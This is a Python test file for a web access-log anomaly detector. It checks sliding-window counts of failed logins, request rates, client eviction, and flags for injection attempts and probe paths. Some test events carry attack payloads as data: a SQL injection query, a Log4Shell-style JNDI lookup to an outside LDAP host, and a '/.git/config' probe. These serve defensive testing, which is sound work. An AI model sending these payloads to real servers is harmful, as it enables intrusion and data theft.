from __future__ import annotations

import math

from hypothesis import given, settings
from hypothesis import strategies as st

from stream.events import TAG_HANDSHAKE, AccessEvent
from stream.features import MODEL_FEATURES, FeatureExtractor, is_failed_login

T0 = 1_764_842_400.0  # 2025-12-04T10:00:00Z


def make_event(**fields: object) -> AccessEvent:
    base: dict[str, object] = {
        "timestamp": T0,
        "source_address": "203.0.113.5",
        "source_ip": "203.0.113.5",
        "http_request_method": "GET",
        "url_path": "/",
        "http_response_status_code": 200,
        "http_response_body_bytes": 1000,
        "user_agent_original": "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0",
    }
    base.update(fields)
    return AccessEvent(**base)  # type: ignore[arg-type]


def features_of(extractor: FeatureExtractor, event: AccessEvent) -> dict[str, float]:
    row, _ = extractor.extract(event)
    return dict(zip(MODEL_FEATURES, row, strict=True))


texts = st.text(max_size=300)
events = st.builds(
    AccessEvent,
    timestamp=st.floats(min_value=0, max_value=4e9),
    source_address=st.sampled_from(["203.0.113.5", "2001:db8::1", "host.example"]),
    source_ip=st.none() | st.just("203.0.113.5"),
    http_request_method=st.none() | st.sampled_from(["GET", "POST", "PROPFIND", "X"]),
    url_path=st.none() | texts,
    url_query=st.none() | texts,
    http_response_status_code=st.none() | st.integers(min_value=0, max_value=999),
    http_response_body_bytes=st.none() | st.integers(min_value=0, max_value=10**12),
    user_agent_original=st.none() | texts,
    user_name=st.none() | texts,
    tags=st.sampled_from([(), (TAG_HANDSHAKE,)]),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(events, min_size=1, max_size=30))
def test_features_finite_and_in_unit_interval(batch: list[AccessEvent]) -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    for event in batch:
        row, _ = extractor.extract(event)
        assert len(row) == len(MODEL_FEATURES)
        for name, value in zip(MODEL_FEATURES, row, strict=True):
            assert math.isfinite(value), name
            assert 0.0 <= value <= 1.0, (name, value)


def test_window_counts_failed_logins_per_client() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    for i in range(30):
        _, stats = extractor.extract(
            make_event(timestamp=T0 + i, http_request_method="POST", url_path="/login", http_response_status_code=401)
        )
    assert stats.failed_logins == 30
    assert stats.requests == 30
    _, other = extractor.extract(make_event(source_address="198.51.100.1", source_ip="198.51.100.1"))
    assert other.failed_logins == 0


def test_window_forgets_events_older_than_window() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    for i in range(10):
        extractor.extract(make_event(timestamp=T0 + i, http_response_status_code=404))
    _, stats = extractor.extract(make_event(timestamp=T0 + 200))
    assert stats.requests == 1
    assert stats.not_found == 0


def test_window_rate_of_burst_is_per_minute() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    for i in range(50):
        _, stats = extractor.extract(make_event(timestamp=T0 + i * 0.04))
    # 50 requests inside one 10-second bucket read as 300 per minute.
    assert stats.rate_per_min == 300.0


def test_window_counts_distinct_paths_approximately() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    for i in range(40):
        _, stats = extractor.extract(make_event(timestamp=T0 + i, url_path=f"/probe/{i}"))
    assert 34 <= stats.distinct_paths <= 46


def test_windows_bounded_by_max_clients() -> None:
    extractor = FeatureExtractor(60, 100, 900)
    for i in range(1000):
        address = f"10.0.{i // 256}.{i % 256}"
        extractor.extract(make_event(timestamp=T0 + i * 0.01, source_address=address, source_ip=address))
    assert len(extractor.windows) == 100
    assert extractor.windows.evicted == 900


def test_windows_drop_idle_clients() -> None:
    extractor = FeatureExtractor(60, 100, idle_seconds=300)
    extractor.extract(make_event(source_address="idle.example", source_ip=None))
    extractor.extract(make_event(timestamp=T0 + 1000, source_address="new.example", source_ip=None))
    assert extractor.windows.get("idle.example") is None
    assert extractor.windows.get("new.example") is not None


def test_failed_login_definition() -> None:
    assert is_failed_login(make_event(http_response_status_code=401))
    assert is_failed_login(make_event(http_response_status_code=403, url_path="/account/login"))
    assert not is_failed_login(make_event(http_response_status_code=403, url_path="/admin"))
    assert is_failed_login(
        make_event(http_request_method="POST", url_path="/api/v1/auth/login", http_response_status_code=422)
    )
    assert not is_failed_login(make_event(http_request_method="POST", url_path="/login", http_response_status_code=302))
    assert not is_failed_login(make_event(http_request_method="POST", url_path="/cart", http_response_status_code=400))


def test_injection_feature_flags_payloads_not_searches() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    plain = features_of(extractor, make_event(url_path="/buscar", url_query="q=zapatos+rojos"))
    sqli = features_of(extractor, make_event(url_path="/buscar", url_query="q=1%27%20UNION%20SELECT%20password--"))
    jndi = features_of(extractor, make_event(user_agent_original="${jndi:ldap://198.51.100.7/a}"))
    assert plain["injection"] == 0.0
    assert sqli["injection"] > 0.3
    assert jndi["ua_kind"] == 1.0


def test_probe_path_and_handshake_features() -> None:
    extractor = FeatureExtractor(60, 1000, 900)
    probe = features_of(extractor, make_event(url_path="/.git/config", http_response_status_code=404))
    garbage = features_of(
        extractor, make_event(url_path="\\x16\\x03\\x01", http_request_method=None, tags=(TAG_HANDSHAKE,))
    )
    assert probe["probe_path"] == 1.0
    assert garbage["handshake"] == 1.0
